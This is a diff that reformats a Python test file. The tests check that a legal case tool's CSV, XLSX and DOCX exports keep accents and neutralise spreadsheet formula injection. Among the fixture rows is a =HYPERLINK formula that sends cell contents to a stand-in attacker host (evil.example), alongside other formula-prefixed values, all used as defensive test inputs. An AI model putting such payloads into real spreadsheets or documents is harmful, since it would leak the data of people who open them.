@@ -17,13 +17,29 @@ from casetrack.errors import CaseTrackError
 
 COLUMNS = ("question", "rank", "passage", "score", "no_good_match")
 ROWS = [
-    {"question": "Qual é o prazo de rescisão?", "rank": 1, "passage": "Ação rescisória: trinta (30) dias, ç ã é",
-     "score": 0.82, "no_good_match": False},
+    {
+        "question": "Qual é o prazo de rescisão?",
+        "rank": 1,
+        "passage": "Ação rescisória: trinta (30) dias, ç ã é",
+        "score": 0.82,
+        "no_good_match": False,
+    },
     # document text an opposing party controls: each would run as a formula in Excel / LibreOffice
-    {"question": "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "rank": 2, "passage": "+1-555-0100 call",
-     "score": None, "no_good_match": True},
+    {
+        "question": '=HYPERLINK("http://evil.example/?"&A1,"click")',
+        "rank": 2,
+        "passage": "+1-555-0100 call",
+        "score": None,
+        "no_good_match": True,
+    },
     {"question": "-2+3", "rank": 3, "passage": "@SUM(A1:A9)", "score": 0.1, "no_good_match": False},
-    {"question": "\tcmd", "rank": None, "passage": "plain - text = fine", "score": 0.0, "no_good_match": False},
+    {
+        "question": "\tcmd",
+        "rank": None,
+        "passage": "plain - text = fine",
+        "score": 0.0,
+        "no_good_match": False,
+    },
 ]
 
 
@@ -40,7 +56,13 @@ def test_csv_has_a_bom_keeps_accents_and_neutralises_formulas(tmp_path: Path) ->
     assert raw.startswith(b"\xef\xbb\xbf")  # Excel reads it as UTF-8
     rows = list(csv.reader(io.StringIO(raw.decode("utf-8-sig"))))
     assert rows[0] == list(COLUMNS)
-    assert rows[1] == ["Qual é o prazo de rescisão?", "1", "Ação rescisória: trinta (30) dias, ç ã é", "0.82", "no"]
+    assert rows[1] == [
+        "Qual é o prazo de rescisão?",
+        "1",
+        "Ação rescisória: trinta (30) dias, ç ã é",
+        "0.82",
+        "no",
+    ]
     assert rows[2][0].startswith("'=HYPERLINK(") and rows[2][2] == "'+1-555-0100 call" and rows[2][3] == ""
     assert rows[2][4] == "yes"
     assert rows[3] == ["'-2+3", "3", "'@SUM(A1:A9)", "0.1", "no"]
@@ -53,7 +75,13 @@ def test_xlsx_reads_back_with_numbers_as_numbers_and_no_formulas(tmp_path: Path)
     sheet = load_workbook(out).active
     values = [[c.value for c in row] for row in sheet.iter_rows()]
     assert values[0] == list(COLUMNS) and sheet.title == "Evidence table - Smith v. Jones"
-    assert values[1] == ["Qual é o prazo de rescisão?", 1, "Ação rescisória: trinta (30) dias, ç ã é", 0.82, "no"]
+    assert values[1] == [
+        "Qual é o prazo de rescisão?",
+        1,
+        "Ação rescisória: trinta (30) dias, ç ã é",
+        0.82,
+        "no",
+    ]
     assert values[2][0].startswith("'=HYPERLINK(") and values[2][2] == "'+1-555-0100 call"
     assert values[3][0] == "'-2+3" and values[3][2] == "'@SUM(A1:A9)"
     # openpyxl would store a string starting with "=" as a formula: none is left
@@ -68,7 +96,13 @@ def test_docx_is_a_table_with_the_text_as_it_is(tmp_path: Path) -> None:
     (table,) = document.tables
     cells = [[c.text for c in row.cells] for row in table.rows]
     assert cells[0] == list(COLUMNS) and len(cells) == len(ROWS) + 1
-    assert cells[1] == ["Qual é o prazo de rescisão?", "1", "Ação rescisória: trinta (30) dias, ç ã é", "0.82", "no"]
+    assert cells[1] == [
+        "Qual é o prazo de rescisão?",
+        "1",
+        "Ação rescisória: trinta (30) dias, ç ã é",
+        "0.82",
+        "no",
+    ]
     assert cells[2][0].startswith("=HYPERLINK(")  # Word never evaluates it: shown as written
     assert stat.S_IMODE(out.stat().st_mode) == 0o600
 
@@ -87,7 +121,9 @@ def test_replace_and_exclusive(tmp_path: Path) -> None:
     target.write_text("old")
     target.chmod(0o644)
     write_table(target, COLUMNS, ROWS[:1])
-    assert "rescisão" in target.read_text(encoding="utf-8-sig") and stat.S_IMODE(target.stat().st_mode) == 0o600
+    assert (
+        "rescisão" in target.read_text(encoding="utf-8-sig") and stat.S_IMODE(target.stat().st_mode) == 0o600
+    )
     assert [p.name for p in tmp_path.iterdir()] == ["t.csv"]  # no temporary file left
     with pytest.raises(CaseTrackError, match="already exists"):
         write_table(target, COLUMNS, ROWS, exclusive=True)
